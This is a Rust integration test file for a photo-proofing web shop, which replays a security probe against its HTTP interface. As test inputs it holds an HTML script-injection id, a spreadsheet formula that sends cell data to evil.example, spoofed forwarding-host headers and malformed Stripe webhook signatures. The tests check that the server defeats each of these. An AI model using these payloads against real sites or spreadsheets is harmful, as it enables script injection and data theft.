//! What a security probe of the running site tried (issue 13), each told as a story against the
//! real HTTP interface: studio ids full of URL and HTML characters, a guest named like a
//! spreadsheet formula, a request naming another host, webhooks that are signed but wrong, and
//! a form that makes the database refuse a row.

use proofroom_server::checkout::stripe::sign;
use proofroom_tests::shop::{add, ann, check_out, checkout_form, photos, shop};
use proofroom_tests::smtp::SmtpServer;
use proofroom_tests::stripe::{LocalStripe, WEBHOOK_SECRET};
use proofroom_tests::{LibraryBuilder, TestApp, Visitor, images, inbox_files, printed};
use reqwest::StatusCode;

const SCRIPTED: &str = "INV\"><img src=x onerror=alert(1)>#1";
const QUERYING: &str = "INV 7?copy=2#b";

fn invoice(session: &str) -> String {
    format!("session = {session:?}\npaid = \"24.00\"\n\n[[items]]\nsku = \"P8X10\"\n")
}

#[tokio::test]
async fn invoice_ids_full_of_url_and_html_characters_stay_text_and_their_links_work() {
    let app = TestApp::spawn().await;
    let library = shop(&app).await;
    for id in [SCRIPTED, QUERYING] {
        library.write(&format!("prepaid/{id}.toml"), invoice("smith"));
    }
    let said = app.push(library.path()).await;
    assert!(said.contains(&format!("pushed prepaid/{SCRIPTED}.toml")), "{said}");

    let event = app.event_path("smith");
    let mut ann = ann(&app).await;
    let gallery = ann.get(&event).await;
    assert_eq!(gallery.status, StatusCode::OK);
    assert!(!gallery.body.contains("<img src=x"), "markup from an id: {}", gallery.body);
    let packages = gallery.links(&format!("{event}/prepaid/"));
    assert_eq!(packages.len(), 2, "{packages:?}");

    let photo = photos(&mut ann, &event).await.remove(0);
    let photo_id = photo.rsplit('/').next().unwrap();
    for link in packages {
        // Each link opens its own package, whatever its id holds.
        let page = ann.get(&link).await;
        assert_eq!(page.status, StatusCode::OK, "{link}: {}", page.body);
        assert!(!page.body.contains("<img src=x"), "{}", page.body);
        let shown = if page.body.contains("Invoice INV 7?copy=2#b") {
            QUERYING
        } else {
            assert!(
                page.body.contains("Invoice INV&quot;&gt;&lt;img src=x onerror=alert(1)&gt;#1"),
                "the id is shown as text: {}",
                page.body
            );
            SCRIPTED
        };
        assert!(page.body.contains(&format!("action=\"{link}\"")), "the form posts back to it");

        // Saving a pick comes back to the same package.
        let saved = ann.post(&link, &[("pick_0_0_0", photo_id), ("action", "save")]).await;
        assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
        assert_eq!(saved.location.as_deref(), Some(link.as_str()));
        let again = ann.get(&link).await;
        assert!(again.body.contains("1 of 1 photos picked"), "{shown}: {}", again.body);
    }
}

#[tokio::test]
async fn ids_no_folder_or_file_can_be_are_refused_by_the_api_and_held_back_by_the_connector() {
    let app = TestApp::spawn().await;
    let library = shop(&app).await;
    let body = serde_json::json!({
        "session": "smith", "paid_cents": 2400, "items": [{ "sku": "P8X10", "quantity": 1 }]
    });
    let long = "x".repeat(201);
    for (id, problem) in [
        ("tab%09here", "control character"),
        ("back%5Cslash", "slash"),
        (long.as_str(), "longer than 200 bytes"),
    ] {
        let answer = app
            .api(reqwest::Method::PUT, &format!("/api/v1/prepaid/{id}"))
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(answer.status(), StatusCode::UNPROCESSABLE_ENTITY, "{id}");
        let json: serde_json::Value = answer.json().await.unwrap();
        assert_eq!(json["error"], "invalid_id", "{id}");
        assert!(json["message"].as_str().unwrap().contains(problem), "{json}");
    }
    let listed = app.get_json("/api/v1/prepaid").await;
    assert_eq!(listed["invoices"], serde_json::json!([]), "nothing was stored");

    // In the library: that session is named and held back, the other goes.
    library.session("tab\there").image("t.jpg", images::jpeg(300, 200)).write();
    library.session("Smith & Co #2").image("c.jpg", images::jpeg(300, 200)).write();
    let pushed = app.connector(library.path(), &["push"]).await;
    let said = printed(&pushed);
    assert_eq!(pushed.status.code(), Some(3), "{said}");
    assert!(
        said.contains(
            "sessions/tab\\there: the folder name contains a control character; rename the \
             folder to put it online"
        ),
        "{said}"
    );
    let ids = app.online_session_ids().await;
    assert!(ids.iter().any(|i| i == "Smith & Co #2"), "{ids:?}");
    assert!(!ids.iter().any(|i| i.contains('\t')), "{ids:?}");
}

/// The cells of a CSV file (RFC 4180, as the connector writes it), row by row.
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

#[tokio::test]
async fn a_guest_named_like_a_formula_reaches_the_studios_csv_files_as_inert_text() {
    let app = TestApp::spawn().await;
    let library = LibraryBuilder::new();
    library.session("fair").image("p1.jpg", images::jpeg(600, 400)).write();
    app.push(library.path()).await;
    let event = app.event_path("fair");
    let event_id = &event["/events/".len()..];
    let name = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")";
    let mut guest = Visitor::new(&app.base_url);
    let registered = app
        .register_guest(&mut guest, Some(event_id), name, "mallory@example.com", "knitting123")
        .await;
    assert_eq!(registered.status, StatusCode::SEE_OTHER, "{}", registered.body);

    let said = app.sync(library.path()).await;
    assert!(said.contains("1 guests"), "{said}");
    let inbox = inbox_files(library.path());
    let guests = csv_cells(&inbox["guests.csv"]);
    assert_eq!(guests.len(), 2, "a header and the guest: {guests:?}");
    assert_eq!(guests[1][1], format!("'{name}"), "the name, as text a spreadsheet shows");
    assert_eq!(guests[1][2], "mallory@example.com");
    for (file, rows) in [("guests.csv", guests), ("tasks.csv", csv_cells(&inbox["tasks.csv"]))] {
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{file}: a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
}

#[tokio::test]
async fn invite_links_use_the_sites_address_whatever_host_the_request_names() {
    let app = TestApp::builder().public_url("https://photos.maplelane.example/").spawn().await;
    shop(&app).await;
    let event = app.event_path("smith");
    let mut ann = Visitor::with_headers(
        &app.base_url,
        &[("X-Forwarded-Host", "evil.example"), ("Forwarded", "host=evil.example;proto=http")],
    );
    let signed_in = ann.sign_in("ann.smith@example.com", "smith").await;
    assert_eq!(signed_in.status, StatusCode::SEE_OTHER, "{}", signed_in.body);
    ann.get(&format!("{event}/invites")).await;
    let made = ann.post_json(&format!("{event}/invites"), &[("guest_name", "Grandma Rose")]).await;
    assert_eq!(made.status, StatusCode::OK, "{}", made.body);
    let url = serde_json::from_str::<serde_json::Value>(&made.body).unwrap()["url"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(url.starts_with("https://photos.maplelane.example/invite/"), "{url}");
    let page = ann.get(&format!("{event}/invites")).await;
    assert!(page.body.contains(&format!("value=\"{url}\"")), "{}", page.body);
    assert!(!page.body.contains("evil.example"), "{}", page.body);

    // The link opens the gallery for the guest it was made for.
    let mut rose = Visitor::new(&app.base_url);
    let path = &url["https://photos.maplelane.example".len()..];
    let followed = rose.get(path).await;
    assert_eq!(followed.location.as_deref(), Some(event.as_str()));
    assert_eq!(rose.get(&event).await.status, StatusCode::OK);
}

/// Posts `body` to the webhook endpoint as Stripe would, with `signature`.
async fn deliver(app: &TestApp, body: &str, signature: &str) -> (StatusCode, serde_json::Value) {
    let answer = reqwest::Client::new()
        .post(app.url("/stripe/webhook"))
        .header("content-type", "application/json")
        .header("stripe-signature", signature)
        .body(body.to_string())
        .send()
        .await
        .unwrap();
    (answer.status(), answer.json().await.unwrap())
}

/// A `payment_intent.succeeded` event of `cents` dollar cents naming order `number`.
fn succeeded(intent: &str, number: &str, cents: i64) -> String {
    serde_json::json!({
        "id": format!("evt_{intent}"),
        "object": "event",
        "type": "payment_intent.succeeded",
        "data": { "object": {
            "id": intent, "object": "payment_intent", "amount": cents, "currency": "usd",
            "status": "succeeded", "metadata": { "order": number }
        } }
    })
    .to_string()
}

/// Ann with two 5×7 prints (30.03 with tax) in her cart, checking out paying by `payment`;
/// answers her and the order's number.
async fn ann_orders(app: &TestApp, payment: &str) -> (Visitor, String) {
    let event = app.event_path("smith");
    let mut ann = ann(app).await;
    for photo in &photos(&mut ann, &event).await[..2] {
        add(&mut ann, &event, "P5X7", "1", photo).await;
    }
    let placed = check_out(&mut ann, &event, payment, None).await;
    assert_eq!(placed.status, StatusCode::SEE_OTHER, "{}", placed.body);
    let location = placed.location.unwrap();
    let number = location.trim_start_matches("/orders/").trim_end_matches("/pay").to_string();
    (ann, number)
}

async fn payment_shown(visitor: &mut Visitor, number: &str) -> String {
    let page = visitor.get(&format!("/orders/{number}")).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    let rest = page.body.split("id=\"payment-status\">").nth(1).expect("a payment status");
    rest.split('<').next().unwrap().to_string()
}

#[tokio::test]
async fn a_signed_payment_naming_an_order_paid_at_the_studio_does_not_pay_it() {
    let (Some(stripe), Some(smtp)) = (LocalStripe::start(), SmtpServer::start()) else { return };
    let app = TestApp::builder().stripe(&stripe).smtp(&smtp).spawn().await;
    shop(&app).await;
    let (mut ann, number) = ann_orders(&app, "pay_at_studio").await;
    assert_eq!(payment_shown(&mut ann, &number).await, "To be paid at the studio");

    let body = succeeded("pi_probe", &number, 3003);
    let now = chrono::Utc::now().timestamp();
    for _ in 0..2 {
        let (status, answer) =
            deliver(&app, &body, &sign(body.as_bytes(), WEBHOOK_SECRET, now)).await;
        assert_eq!(status, StatusCode::OK, "{answer}");
        assert_eq!(answer["handled"], "not_a_card_order");
    }
    assert_eq!(payment_shown(&mut ann, &number).await, "To be paid at the studio");

    // Ann's confirmation, and one note to the studio to refund the payment.
    let mail = smtp.wait_for(2).await;
    let to_studio: Vec<_> =
        mail.iter().filter(|m| m.to.contains("hello@maplelane.example")).collect();
    assert_eq!(to_studio.len(), 1, "{:?}", mail.iter().map(|m| &m.subject).collect::<Vec<_>>());
    assert!(to_studio[0].subject.contains(&format!("Refund a card payment for order {number}")));
    assert!(to_studio[0].body.contains("pi_probe"), "{}", to_studio[0].body);
}

#[tokio::test]
async fn a_webhook_whose_timestamp_is_spelled_otherwise_is_refused() {
    let Some(stripe) = LocalStripe::start() else { return };
    let app = TestApp::builder().stripe(&stripe).spawn().await;
    shop(&app).await;
    let (mut ann, number) = ann_orders(&app, "card").await;
    assert_eq!(payment_shown(&mut ann, &number).await, "Waiting for payment");

    let body = succeeded("pi_probe", &number, 3003);
    let now = chrono::Utc::now().timestamp();
    let signature = sign(body.as_bytes(), WEBHOOK_SECRET, now);
    for spelled in [format!("t=0{now}"), format!("t=+{now}"), format!("t={now},t={now}")] {
        let header = signature.replacen(&format!("t={now}"), &spelled, 1);
        let (status, answer) = deliver(&app, &body, &header).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{header}: {answer}");
        assert_eq!(answer["error"], "invalid_signature");
    }
    assert_eq!(payment_shown(&mut ann, &number).await, "Waiting for payment");

    // As Stripe spells it, it pays the order.
    let (status, answer) = deliver(&app, &body, &signature).await;
    assert_eq!((status, answer["handled"].as_str()), (StatusCode::OK, Some("paid")), "{answer}");
    assert_eq!(payment_shown(&mut ann, &number).await, "Paid");
}

#[tokio::test]
async fn a_refused_row_answers_409_in_words_of_the_site_not_of_the_database() {
    let app = TestApp::spawn().await;
    let library = shop(&app).await;
    library
        .session("jones")
        .event_type("none")
        .price_list(Some("portrait-2026"))
        .client(("C-2001", "Bo", "Jones", "bo.jones@example.com"))
        .image("Jones 01.jpg", images::jpeg(600, 400))
        .write();
    app.push(library.path()).await;
    let (_ann, _number) = ann_orders(&app, "pay_at_studio").await;
    let used_key = {
        use diesel::prelude::*;
        use proofroom_server::db::schema::orders;
        app.with_db(|conn| {
            orders::table.select(orders::checkout_key).first::<String>(conn).unwrap()
        })
    };

    // Bo sends his checkout with the key of Ann's order.
    let mut bo = Visitor::new(&app.base_url);
    assert_eq!(bo.sign_in("bo.jones@example.com", "jones").await.status, StatusCode::SEE_OTHER);
    let event = app.event_path("jones");
    let photo = photos(&mut bo, &event).await.remove(0);
    add(&mut bo, &event, "P8X10", "1", &photo).await;
    let page = check_out(&mut bo, &event, "pay_at_studio", Some(&used_key)).await;
    assert_eq!(page.status, StatusCode::CONFLICT, "{}", page.body);
    assert!(page.body.contains("try again"), "{}", page.body);
    let form = checkout_form(&used_key, "pay_at_studio");
    let fields: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let script = bo.post_json(&format!("{event}/checkout"), &fields).await;
    assert_eq!(script.status, StatusCode::CONFLICT, "{}", script.body);
    let json: serde_json::Value = serde_json::from_str(&script.body).unwrap();
    assert_eq!(json["error"], "conflict");
    for answer in [&page.body, &script.body] {
        for word in ["UNIQUE", "constraint", "checkout_key", "duplicate key", "orders."] {
            assert!(!answer.contains(word), "{word}: {answer}");
        }
    }
    // Coming back to checkout, as the page says, places his order.
    let placed = check_out(&mut bo, &event, "pay_at_studio", None).await;
    assert_eq!(placed.status, StatusCode::SEE_OTHER, "{}", placed.body);
}

/// The server's peak resident memory so far (VmHWM), in bytes.
fn peak_memory(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmHWM:")).expect("VmHWM");
    let kb: u64 = line.split_whitespace().nth(1).unwrap().parse().unwrap();
    kb * 1024
}

/// Kills the server child when the story ends, however it ends.
struct Child(std::process::Child);

impl Drop for Child {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[tokio::test]
async fn four_large_pngs_uploaded_at_once_are_decoded_within_one_memory_budget() {
    // Each PNG decodes to 48 MB and is counted at 144 MB (12 bytes a pixel): one fits the
    // budget at a time, where four ingest jobs alone would decode all four at once (measured:
    // 244 MB without the budget, 127 MB with it).
    const BUDGET: u64 = 160 * 1024 * 1024;
    let dir = tempfile::tempdir().unwrap();
    let (database_url, _database) = proofroom_tests::scratch_database(dir.path());
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let env = [
        ("PROOFROOM_DATA_DIR", dir.path().join("data").display().to_string()),
        ("PROOFROOM_DATABASE_URL", database_url),
        ("PROOFROOM_PORT", port.to_string()),
        ("PROOFROOM_WORKERS", "4".into()),
        ("PROOFROOM_INGEST_JOBS", "4".into()),
        ("PROOFROOM_MAX_INGEST_MEMORY", BUDGET.to_string()),
        ("PROOFROOM_LOG", "warn".into()),
    ];
    // Made first: a pooled connection left idle while they are encoded could be closing.
    let names: Vec<String> = (1..=4).map(|n| format!("big {n}.png")).collect();
    let pngs: Vec<Vec<u8>> = (1..=4).map(|n| images::rgba_png(4000, 3000, n * 40)).collect();
    let huge = images::rgba_png(6000, 4000, 7);
    let server = || {
        let mut command = std::process::Command::new(proofroom_tests::server_binary());
        command.envs(env.clone()).env_remove("PROOFROOM_CONFIG");
        command
    };
    let made = server().args(["token", "create"]).output().unwrap();
    assert!(made.status.success(), "{}", printed(&made));
    let token = String::from_utf8(made.stdout).unwrap().trim().to_string();
    let child = Child(server().stdout(std::process::Stdio::null()).spawn().unwrap());
    let pid = child.0.id();
    let base = format!("http://127.0.0.1:{port}");
    // Under the server's 5 s keep-alive, as for visitors.
    let http = reqwest::Client::builder()
        .pool_idle_timeout(std::time::Duration::from_secs(3))
        .build()
        .unwrap();
    for _ in 0..200 {
        if http.get(format!("{base}/healthz")).send().await.is_ok() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }

    let session = serde_json::json!({
        "description": "Memory", "date": "2026-04-12", "price_list": null, "days_active": 30,
        "event_type": "public", "event_code": null, "event_description": null,
        "client": { "id": "C-1", "first_name": "A", "last_name": "B", "email": "a@b.example",
                    "phone": null, "address": null },
        "images": names.iter().map(|n| serde_json::json!({ "name": n })).collect::<Vec<_>>()
    });
    let put = http
        .put(format!("{base}/api/v1/sessions/mem"))
        .bearer_auth(&token)
        .json(&session)
        .send()
        .await
        .unwrap();
    assert_eq!(put.status(), StatusCode::OK, "{}", put.text().await.unwrap());
    let before = peak_memory(pid);

    let upload = |name: &str, png: &[u8]| {
        http.put(format!("{base}/api/v1/sessions/mem/images"))
            .query(&[("name", name)])
            .bearer_auth(&token)
            .header("x-content-sha256", images::sha256(png))
            .body(png.to_vec())
            .send()
    };
    let uploads = names.iter().zip(&pngs).map(|(name, png)| upload(name, png));
    for answer in futures_util::future::join_all(uploads).await {
        let answer = answer.unwrap();
        assert_eq!(answer.status(), StatusCode::OK, "{}", answer.text().await.unwrap());
    }
    let grew = peak_memory(pid).saturating_sub(before);
    eprintln!("four uploads at once grew the server's peak memory by {} MB", grew / 1_000_000);
    let listing = http.get(format!("{base}/api/v1/sessions/mem/images")).bearer_auth(&token);
    let listed: serde_json::Value = listing.send().await.unwrap().json().await.unwrap();
    assert_eq!(proofroom_tests::held_image_names(&listed).len(), 4, "{listed}");
    assert!(
        grew < BUDGET,
        "the peak grew {} MB for four uploads at once, over the {} MB budget",
        grew / 1_000_000,
        BUDGET / 1_000_000
    );

    // An image needing more than the whole budget is refused before it is decoded.
    let refused = upload("big 1.png", &huge).await.unwrap();
    assert_eq!(refused.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let json: serde_json::Value = refused.json().await.unwrap();
    assert_eq!(json["error"], "image_too_large_to_decode", "{json}");
}
